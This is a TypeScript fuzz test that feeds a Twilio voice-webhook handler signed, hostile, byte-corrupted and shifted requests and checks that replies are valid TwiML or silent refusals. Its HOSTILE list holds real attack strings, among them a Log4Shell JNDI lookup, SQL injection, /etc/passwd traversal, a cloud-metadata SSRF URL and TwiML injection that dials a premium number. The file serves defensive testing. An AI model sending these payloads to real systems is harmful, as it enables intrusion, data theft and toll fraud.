// Webhooks of every voice route through the whole handler: as Twilio sends them, with hostile values, with bytes changed,
// and with their borders moved. Each is answered with valid TwiML, or refused without a word.
import type { HttpResult } from '../../functions/http/lambda-http.ts';
import { checkTwiml } from '../../carrier/twiml/check-twiml.ts';
import { staffNumbers } from '../../core/departments/staff.ts';
import { SEED_SETTINGS } from '../../local/seed/seed-settings.ts';
import { signatureOf } from '../support/webhooks/judge.ts';
import { pick, rightlySigned, type Random, type SignedWebhook } from '../support/webhooks/rightly-signed.ts';
import { divisionOf, formBody, manyShifts } from '../support/webhooks/shifted.ts';
import { randomFrom } from '../../training/random.ts';
import type { Fuzz, Found } from './found.ts';
import { PROMPT, StormyHotline } from './stormy-hotline.ts';
import { CALM } from './weather.ts';

interface Sent {
  readonly kind: 'signed' | 'hostile' | 'raw' | 'shifted';
  readonly method: string;
  readonly target: string;
  readonly body: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** After so many a hotline is new, so that its tables stay small. */
const OF_ONE_HOTLINE = 500;

export async function fuzzWebhooks({ seed, goesOn }: Fuzz): Promise<Found> {
  const random = randomFrom(seed);
  const violations: string[] = [];
  let done = 0;
  let hotline = newHotline(random);
  while (goesOn(done)) {
    if (done % OF_ONE_HOTLINE === 0) hotline = newHotline(random);
    const sent = draw(random);
    const { method, target, body, headers } = sent;
    const problem = problemIn(sent, await hotline.request(method, target, body, headers));
    if (problem !== undefined)
      violations.push(`${sent.kind} ${method} ${target.slice(0, 200)}: ${problem}: ${body.slice(0, 400)}`);
    done += 1;
  }
  return { done, violations };
}

const newHotline = (random: Random): StormyHotline =>
  new StormyHotline({
    settings: SEED_SETTINGS,
    start: new Date('2026-03-03T15:00:00Z'),
    rates: CALM,
    delivery: PROMPT,
    chance: random,
  });

function draw(random: Random): Sent {
  const webhook = rightlySigned(random);
  const at = random();
  if (at < 0.5) return signed('signed', webhook);
  if (at < 0.8) return signed('hostile', withHostile(webhook, random));
  if (at < 0.95) return raw(webhook, random);
  const shifted = manyShifts(divisionOf(webhook), 2, random) ?? divisionOf(webhook);
  return { ...signed('shifted', webhook), target: shifted.target, body: formBody(shifted) };
}

const signed = (kind: Sent['kind'], webhook: SignedWebhook): Sent => ({
  kind,
  method: 'POST',
  target: webhook.target,
  body: new URLSearchParams(webhook.parameters).toString(),
  headers: {
    'content-type': 'application/x-www-form-urlencoded; charset=utf-8',
    'x-twilio-signature': signatureOf(webhook),
  },
});

const HOSTILE = [
  '',
  ' ',
  '\u0000',
  '\u0007\u001b[31m',
  '\ud800',
  '\u202e+13125550111',
  '</Say><Dial>+19005550100</Dial>',
  ']]><!--&amp;&#0;',
  "'; DROP TABLE listings; --",
  '__proto__',
  'constructor',
  '${jndi:ldap://192.0.2.1/a}',
  '../../../../etc/passwd',
  '-1',
  '1e309',
  'NaN',
  '9'.repeat(400),
  '+'.repeat(40),
  'x'.repeat(20_000),
  '１２３４',
  '+86 10 ５５５５',
  'sip:x@192.0.2.1;transport=tls?a=b',
  'https://169.254.169.254/latest/meta-data/',
  'true',
  'null',
  '{"a":[1]}',
  '2026-13-45T99:99:99Z',
];

/** One to three values, or names, that nobody sends; the signature covers them. */
function withHostile(webhook: SignedWebhook, random: Random): SignedWebhook {
  const parameters: Record<string, string> = { ...webhook.parameters };
  const names = Object.keys(parameters);
  for (let changes = 1 + Math.floor(random() * 3); changes > 0; changes--) {
    const name = pick(names, random);
    switch (pick(['value', 'value', 'value', 'missing', 'new'] as const, random)) {
      case 'value':
        parameters[name] = pick(HOSTILE, random);
        break;
      case 'missing':
        Reflect.deleteProperty(parameters, name);
        break;
      case 'new':
        parameters[pick(['X', 'Digits', 'From', 'SpeechResult', 'DialCallStatus'], random)] = pick(
          HOSTILE,
          random,
        );
    }
  }
  return { ...webhook, parameters };
}

/** Bytes that were changed, headers that are missing, another method. */
function raw(webhook: SignedWebhook, random: Random): Sent {
  const whole = signed('raw', webhook);
  const at = Math.floor(random() * whole.body.length);
  const cut = Math.floor(random() * 30);
  switch (pick(['flip', 'cut', 'repeat', 'query', 'signature', 'none', 'type', 'method'] as const, random)) {
    case 'flip':
      return {
        ...whole,
        body:
          whole.body.slice(0, at) +
          String.fromCharCode(Math.floor(random() * 256)) +
          whole.body.slice(at + 1),
      };
    case 'cut':
      return { ...whole, body: whole.body.slice(0, at) + whole.body.slice(at + cut) };
    case 'repeat':
      return { ...whole, body: `${whole.body}&${whole.body.slice(at, at + cut)}` };
    case 'query':
      return { ...whole, target: `${whole.target}${pick(['?', '&', '%', '&x=%ff', '#'], random)}` };
    case 'signature':
      return {
        ...whole,
        headers: {
          ...whole.headers,
          'x-twilio-signature': pick(['', 'x', 'A'.repeat(5_000), '\u00ff'], random),
        },
      };
    case 'none':
      return { ...whole, headers: {} };
    case 'type':
      return {
        ...whole,
        headers: {
          ...whole.headers,
          'content-type': pick(
            ['application/json', 'text/plain', 'multipart/form-data; boundary=x', ''],
            random,
          ),
        },
      };
    case 'method':
      return { ...whole, method: pick(['GET', 'PUT', 'HEAD'], random) };
  }
}

const DIALLED = /<(?:Number|Sip|Client)\b[^>]*>([^<]*)</g;
const TARGETS: ReadonlySet<string> = new Set(staffNumbers(SEED_SETTINGS));

/** Undefined where the answer is as it must be. */
function problemIn(
  { kind }: Sent,
  { statusCode = 200, headers = {}, body = '' }: HttpResult,
): string | undefined {
  if (statusCode === 404 && kind === 'raw') return undefined;
  if (statusCode === 403)
    return kind === 'signed' ? 'refused' : body === '' ? undefined : 'refused with words';
  if (statusCode !== 200) return `HTTP ${String(statusCode)}`;
  if (!String(headers['content-type']).startsWith('text/xml'))
    return `answered as ${String(headers['content-type'])}`;
  const [invalid] = checkTwiml(body);
  if (invalid !== undefined) return `invalid TwiML: ${invalid.message}`;
  const foreign = [...body.matchAll(DIALLED)].find(([, target = '']) => !TARGETS.has(target));
  return foreign === undefined ? undefined : `dials ${String(foreign[1])}`;
}
